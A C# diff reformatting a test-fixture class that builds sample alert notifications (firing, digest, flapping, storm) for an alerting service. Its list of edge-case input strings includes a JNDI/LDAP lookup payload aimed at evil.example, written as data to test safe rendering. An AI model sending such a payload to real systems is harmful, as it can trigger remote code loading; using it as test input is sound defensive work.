@@ -18,11 +18,13 @@ internal static class SampleNotifications
         "\uD800 lone \uDC00\uD83D",
         "\0\u0001\u0007\u001B[31m\u007F\u0085\u2028\u2029\uFFFE\uFFFF",
         "👩‍👩‍👧‍👦 🇩🇪 e\u0301\u0301 Z\u0351\u036B\u0343 ﷽ 漢字かな עברית العربية",
-        "&lt;b&gt; &amp;amp; &#x3C; ]]> {{DATE(2026-01-01T00:00:00Z,SHORT)}} ${jndi:ldap://evil.example} <at>Everyone</at>",
+        "&lt;b&gt; &amp;amp; &#x3C; ]]> {{DATE(2026-01-01T00:00:00Z,SHORT)}} ${jndi:ldap://evil.example} " +
+        "<at>Everyone</at>",
         "https://evil.example/x?y=z www.evil.example evil.example mail@evil.example #hashtag /command ~town-square",
     ];
 
-    public static Notification Firing() => Some.Notification(Some.Alert(Alarm("orders-api errors"))) with { Kind = NotificationKind.Firing };
+    public static Notification Firing() =>
+        Some.Notification(Some.Alert(Alarm("orders-api errors"))) with { Kind = NotificationKind.Firing };
 
     public static Notification Resolved() => Some.Notification(Some.Alert(Alarm("orders-api errors") with
     {
@@ -45,19 +47,25 @@ internal static class SampleNotifications
             Status = i % 3 == 2 ? AlertStatus.Resolved : AlertStatus.Firing,
             StartsAt = Some.Time.AddHours(-i),
             EndsAt = Some.Time.AddMinutes(-10),
-        }, Severity.Warning))]) with { Kind = NotificationKind.Digest, Reason = "Held outside business-hours: 8 still firing, 4 recovered." };
+        }, Severity.Warning))]) with
+            { Kind = NotificationKind.Digest, Reason = "Held outside business-hours: 8 still firing, 4 recovered." };
 
     /// <summary>Firing since the evening before.</summary>
-    public static Notification Reminder() => Some.Notification(Some.Alert(Alarm("orders-api errors") with { StartsAt = Some.Time.AddHours(-8) }, Severity.Critical))
+    public static Notification Reminder() => Some.Notification(
+        Some.Alert(Alarm("orders-api errors") with { StartsAt = Some.Time.AddHours(-8) }, Severity.Critical))
         with { Kind = NotificationKind.Reminder, Reason = "Reminder: still firing after 1 h." };
 
-    public static Notification Flapping() => Some.Notification(Some.Alert(Alarm("orders-api errors") with { StartsAt = Some.Time.AddMinutes(-3), Count = 5 }))
-        with { Kind = NotificationKind.Flapping, Reason = "Flapping: 4 changes in 30 min. No further notifications until it is stable." };
+    public static Notification Flapping() => Some.Notification(
+        Some.Alert(Alarm("orders-api errors") with { StartsAt = Some.Time.AddMinutes(-3), Count = 5 }))
+        with { Kind = NotificationKind.Flapping,
+            Reason = "Flapping: 4 changes in 30 min. No further notifications until it is stable." };
 
     /// <summary>The first 25 of 480 alarms; the others are only counted.</summary>
     public static Notification Storm() => Some.Notification([.. Enumerable.Range(1, 25).Select(i => Some.Alert(
-        Alarm($"db-{i:000} connections") with { StartsAt = Some.Time.AddSeconds(-i) }, i == 1 ? Severity.Critical : Severity.Error))])
-        with { Kind = NotificationKind.Storm, More = 455, StillFiring = 480, Reason = "480 new alerts since the last notification." };
+        Alarm($"db-{i:000} connections") with { StartsAt = Some.Time.AddSeconds(-i) },
+        i == 1 ? Severity.Critical : Severity.Error))])
+        with { Kind = NotificationKind.Storm, More = 455, StillFiring = 480,
+            Reason = "480 new alerts since the last notification." };
 
     public static Notification Of(string situation) => situation switch
     {
@@ -77,7 +85,8 @@ internal static class SampleNotifications
         PreviousState = "OK",
         Service = "orders-api",
         Summary = "Threshold Crossed: 3 datapoints [6.0, 17.0, 41.0] were greater than the threshold (5.0).",
-        Description = "Customers cannot order.\nCheck the queue first. runbook: https://wiki.example.com/runbooks/orders",
+        Description =
+            "Customers cannot order.\nCheck the queue first. runbook: https://wiki.example.com/runbooks/orders",
         StartsAt = Some.Time.AddMinutes(-26),
         Measurement = new Measurement
         {
@@ -91,6 +100,7 @@ internal static class SampleNotifications
             Datapoints = [new(6, null), new(17, null), new(41, null)],
         },
         Facts = [new Fact("FunctionName", "orders-api")],
-        Links = [new Link("Alarm", ConsoleLinks.Alarm("eu-west-1", "orders-api errors")!), new Link("Metric", "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#metricsV2")],
+        Links = [new Link("Alarm", ConsoleLinks.Alarm("eu-west-1", "orders-api errors")!),
+            new Link("Metric", "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#metricsV2")],
     };
 }
